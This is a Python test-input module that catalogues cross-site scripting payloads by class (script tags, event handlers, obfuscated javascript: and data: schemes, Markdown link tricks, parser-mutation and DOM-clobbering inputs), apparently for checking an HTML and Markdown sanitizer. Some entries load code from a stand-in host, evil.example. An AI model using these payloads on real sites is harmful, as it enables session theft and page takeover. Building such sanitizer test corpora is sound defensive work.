"""Ways to get something that acts into a page, by class. Each is tried as Markdown, as HTML and as
plain text; what is no attack in one of them must come to nothing there as well."""
import itertools

RAW_HTML = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script>alert(1)", "<script type=module>import '//evil.example'</script>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<base href=javascript:/>", "<base target=x href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta charset=utf-7>+ADw-script+AD4-",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>", "<frameset onload=alert(1)>", "<frame src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<keygen autofocus onfocus=alert(1)>", "<portal src=javascript:alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>", "<x-custom onclick=alert(1)>x</x-custom>",
    "<html><body onload=alert(1)>x</body></html>", "<!DOCTYPE html [<!ENTITY x 'y'>]><p>&x;</p>",
    "<?php echo 1 ?><script>alert(1)</script>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</p><script>alert(1)</script><p>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<p>a\n\n<script>\n\nalert(1)\n\n</script>", "    <script>alert(1)</script>", "> <script>alert(1)</script>",
    "- <script>alert(1)</script>", "# <script>alert(1)</script>",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>", "<img src=x OnErRoR=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>", "<img src=x onerror=\"alert(1)\">", "<img src='x'onerror='alert(1)'>",
    "<img src=x o&#110;error=alert(1)>", "<img src=x \x00onerror=alert(1)>", "<img src=x\x0conerror=alert(1)>",
    "<img src=x \x0bonerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img src=x:x onerror=alert(1)//",
    "<img \"\"\"><script>alert(1)</script>\">", "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<body onload=alert(1)>", "<div onmouseover=alert(1)>x</div>", "<p onclick=alert(1)>x</p>",
    "<a onmouseover=alert(1) href=/>x</a>", "<b onfocus=alert(1) tabindex=0 autofocus>x</b>",
    "<details open ontoggle=alert(1)>x</details>", "<video onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>", "<td onclick=alert(1)>x", "<table background=javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>", "<div style=width:expression(alert(1))>x</div>",
    "<p style=\"-moz-binding:url(//evil.example)\">x</p>", "<span style=position:fixed;inset:0>x</span>",
    "<p onpointerrawupdate=alert(1)>x</p>", "<p onanimationstart=alert(1) style=animation-name:x>x</p>",
    "<a href=/ ping=//evil.example>x</a>", "<a href=/ target=_blank>x</a>", "<img srcset='javascript:alert(1) 1x'>",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>", "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>", "<a href=/ download>x</a>", "<p contenteditable onbeforeinput=alert(1)>x</p>",
]

# A scheme, as browsers read it although it is not written so, or as other parsers once did.
SPELLINGS = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", "javascript://%0aalert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "javascript&#x3A;alert(1)",
    "javascript&#0000058;alert(1)", "javascript&#x000003a;alert(1)", "javascript&#58alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#x6a&#x61&#x76&#x61script:alert(1)",
    "&#0000106&#0000097&#0000118ascript:alert(1)", "java&#115;cript:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)",
    "java&#x09;script:alert(1)", "java&#x0A;script:alert(1)", "java\tscript:alert(1)", "java\\\nscript:alert(1)",
    "&#1;javascript:alert(1)", "&#x1f;javascript:alert(1)", "&#14; javascript:alert(1)", "&#32;javascript:alert(1)",
    "&nbsp;javascript:alert(1)", "&ZeroWidthSpace;javascript:alert(1)", "&#8203;javascript:alert(1)",
    "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "\ufeffjavascript:alert(1)",
    "\u2028javascript:alert(1)", "\u202ejavascript:alert(1)", "\u3000javascript:alert(1)",
    "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "java\x0bscript:alert(1)", "java\x7fscript:alert(1)",
    "java\x1ascript:alert(1)", "javascript\x09:alert(1)", "javascript\u00ad:alert(1)", "javascript\x01:alert(1)",
    "\uff4aavascript:alert(1)", "javascript\uff1aalert(1)", "java\\script:alert(1)", "\\javascript:alert(1)",
    "javascript\\:alert(1)", "javas\\cript\\:alert(1)", "java%73cript:alert(1)", "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)", "java%0ascript:alert(1)", "java%09script:alert(1)", "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)", "feed:data:text/html,<script>alert(1)</script>", "jar:javascript:alert(1)!/",
    "livescript:alert(1)", "mocha:alert(1)", "vbscript:msgbox(1)", "VBScript:msgbox(1)", "vb\tscript:msgbox(1)",
    "vbscript&colon;msgbox(1)", "data:text/html,<script>alert(1)</script>", "DATA:text/html;base64,PHNjcmlwdD4=",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:,x", "data&colon;text/html,x", "da\tta:text/html,x", "&#100;ata:text/html,x", "data:application/xhtml+xml,x",
    "file:///etc/passwd", "blob:https://evil.example/1", "filesystem:https://evil.example/x", "about:blank",
    "chrome://settings", "ms-settings:x", "intent://x#Intent;end", "tel:+1", "ftp://evil.example", "ws://evil.example",
    "x:javascript:alert(1)", "1javascript:alert(1)", "+javascript:alert(1)", ".:alert(1)", ":javascript:alert(1)",
    "//evil.example\u202e/gpj.exe", "http://good.example\u2066@evil.example", "https://evil.example\\@good.example",
    "https:\\\\evil.example", "/\\evil.example", "\\\\evil.example", "\"onmouseover=alert(1) x=\"",
    "'onmouseover=alert(1) x='", "/x\"onmouseover=\"alert(1)", "/x&quot;onmouseover=&quot;alert(1)",
    "/x'onmouseover='alert(1)", "/x><script>alert(1)</script>", "/x&gt;&lt;script&gt;alert(1)",
]

# Where an address stands: each spelling goes through each of these.
ADDRESSES = [
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "[r]: <{}>\n\n![x][r]",
    "<a href=\"{}\">x</a>", "<a href='{}'>x</a>", "<a href={}>x</a>", "<img src=\"{}\">",
]

MARKDOWN = [
    "[x](/y \"\\\"onmouseover=alert(1) z=\\\"\")", "[x](/y '\"onmouseover=\"alert(1)')", "[x](/y (\"><script>alert(1)</script>))",
    "![\"onerror=alert(1) x=\"](/y)", "![x\" onerror=\"alert(1)](/y)", "![<img src=x onerror=alert(1)>](/y)",
    "![&quot; onerror=&quot;alert(1)](/y)", "![x](/y \"\\\" onerror=alert(1)\")", "![`\" onerror=alert(1)`](/y)",
    "![![x](javascript:alert(1))](/y)", "[![x](/y)](javascript:alert(1))", "[[x](javascript:alert(1))](/y)",
    "![[x](javascript:alert(1))](javascript:alert(1))", "[a <b@c.d> e](/y)", "[https://a.example](javascript:alert(1))",
    "[www.a.example](javascript:alert(1))", "https://a.example/\"onmouseover=alert(1)", "https://a.example/<script>alert(1)</script>",
    "www.a.example/\"><script>alert(1)</script>", "http://a\"onclick=alert(1)", "a\"onclick=alert(1)@b.example",
    "<a\"onclick=alert(1)@b.example>", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)//@x.example>",
    "<data:text/html,x>", "<https://a.example/\"onclick=alert(1)>", "<https://a.example/'onclick='alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```", "```x\" onclick=\"alert(1)\nx\n```", "```&quot;onclick=alert(1)\nx\n```",
    "~~~ x'onclick=alert(1)\nx\n~~~", "```<script>\nalert(1)\n```", "``<script>alert(1)</script>``",
    "```\n</code></pre><script>alert(1)</script>\n```", "    </code></pre><script>alert(1)</script>",
    "|<script>alert(1)</script>|b|\n|---|---|\n|c|<img src=x onerror=alert(1)>|", "|[x](javascript:alert(1))|\n|---|\n|y|",
    "|a|\n|:---\"onclick=alert(1)---|\n|b|", "|`<script>`|\n|---|\n|\\|<b onclick=alert(1)>|", "|a\n|---\n|</td></table><script>alert(1)",
    "*<script>*alert(1)</script>", "**<img src=x onerror=**alert(1)>", "_<svg_ onload=alert(1)>", "~~<script>~~",
    "[x]: javascript:alert(1)\n[x]", "[x]: javascript:alert(1) \"y\"\n\n[x][]", "[\u00e9]: data:text/html,x\n\n[\u00c9]",
    "[x]:\n<javascript:alert(1)>\n'y'\n\n[x]", "[x](<java\nscript:alert(1)>)", "[x](java\nscript:alert(1))",
    "1. <script>\n2. alert(1)\n3. </script>", "> [x](\n> javascript:alert(1))", "- [x]\n  (javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\<script>alert(1)\\</script>", "<\\script>alert(1)", "&lt\\;script&gt;", "&amp;lt;script&amp;gt;",
    "- [ ] <input onfocus=alert(1) autofocus>", "- [x] [y](javascript:alert(1))", "# [x](javascript:alert(1)) {onclick=alert(1)}",
    "[x](/y){onclick=alert(1)}", "[x](javascript:alert(1 )", "[x](javascript:alert(1\\))", "[x]( javascript:alert(1) )",
    "[x](\tjavascript:alert(1))", "[x](<\tjavascript:alert(1)>)", "![x](/y\x00.png)", "[x\x00](javascript\x00:alert(1))",
]

# What one reader takes for text and the next for markup.
MUTATION = [
    "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x>",
    "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><set attributeName=onload to=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><title><img src=x onerror=alert(1)></title>",
    "<svg><desc><p><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">", "<svg><image href=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mi><table><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>", "<template><p title=\"</template><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">", "<style>@import '//evil.example';</style>",
    "<style><!--</style><script>alert(1)//--></script>", "<style>x{}</style\n><script>alert(1)</script>",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>", "<listing>&lt;img src=x onerror=alert(1)></listing>",
    "<!--><script>alert(1)</script>-->", "<!---><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script> -->",
    "<!--<!--><script>alert(1)</script>-->", "<!-- a -- ><script>alert(1)</script>", "<!-x><script>alert(1)</script>",
    "<!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<![if !IE]><script>alert(1)</script><![endif]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "</ script><script>alert(1)</script>", "</><script>alert(1)</script>",
    "<%<script>alert(1)</script>%>", "<p title='<!--'><script>alert(1)</script><p title='-->'>",
    "<a title=\"</a><script>alert(1)</script>\">x</a>", "<img alt=\"<x\" title=\"/><img src=x onerror=alert(1)>\">",
    "<img alt=\"`><script>alert(1)</script>\">", "<p title=\"&quot;><script>alert(1)</script>\">x",
    "<p title=&quot;><script>alert(1)</script>>x", "<p title=\"&#34;onclick=alert(1)\">x</p>", "<abbr title='\" onclick=alert(1) x=\"'>x</abbr>",
    "<table><td><script>alert(1)</script></table>", "<table><a href=javascript:alert(1)>x</table>",
    "<table><tr><style><td title=\"</style><img src=x onerror=alert(1)>\">", "<select><option><script>alert(1)</script></select>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<frameset><frame src=javascript:alert(1)></frameset>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<p><svg><p><style><img src=\"</style><img src=x onerror=alert(1)//\">", "<a><a href=javascript:alert(1)>x</a></a>",
    "<b><p><a href=javascript:alert(1)></b>x", "<s%00cript>alert(1)</s%00cript>", "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)",
    "<img src=x onerror=alert(1)", "<img src=\"x", "<a href=\"javascript:alert(1)", "<", "</", "<!", "<!--", "<a", "<a href", "<a href=",
]

CLOBBERING = [
    "<a id=document href=/>x</a>", "<img name=body src=/x>", "<img name=getElementById src=/x>", "<form id=x name=cookie></form>",
    "<a id=config><a id=config name=url href=//evil.example>x</a>", "<p id=__proto__>x</p>", "<p class=js-hook>x</p>",
    "<p data-action=delete data-url=/api>x</p>", "<p is=x-custom slot=y part=z>x</p>", "<a href=/ data-method=delete>x</a>",
    "<p itemscope itemid=x>x</p>", "<p v-html=alert(1)>{{constructor.constructor('alert(1)')()}}</p>",
    "<p x-data=alert(1) x-init=alert(1) @click=alert(1) :href=x ng-app>x</p>", "<p hx-get=/ hx-on:load=alert(1)>x</p>",
    "<label for=password>x</label>", "<input form=login name=password>", "<output name=x>y</output>", "<slot name=x>y</slot>",
]


def of_addresses():
    return [place.format(spelling) for place, spelling in itertools.product(ADDRESSES, SPELLINGS)]


def of_classes():
    return {"raw html": RAW_HTML, "handlers": HANDLERS, "markdown": MARKDOWN, "mutation": MUTATION,
            "clobbering": CLOBBERING, "addresses": of_addresses()}
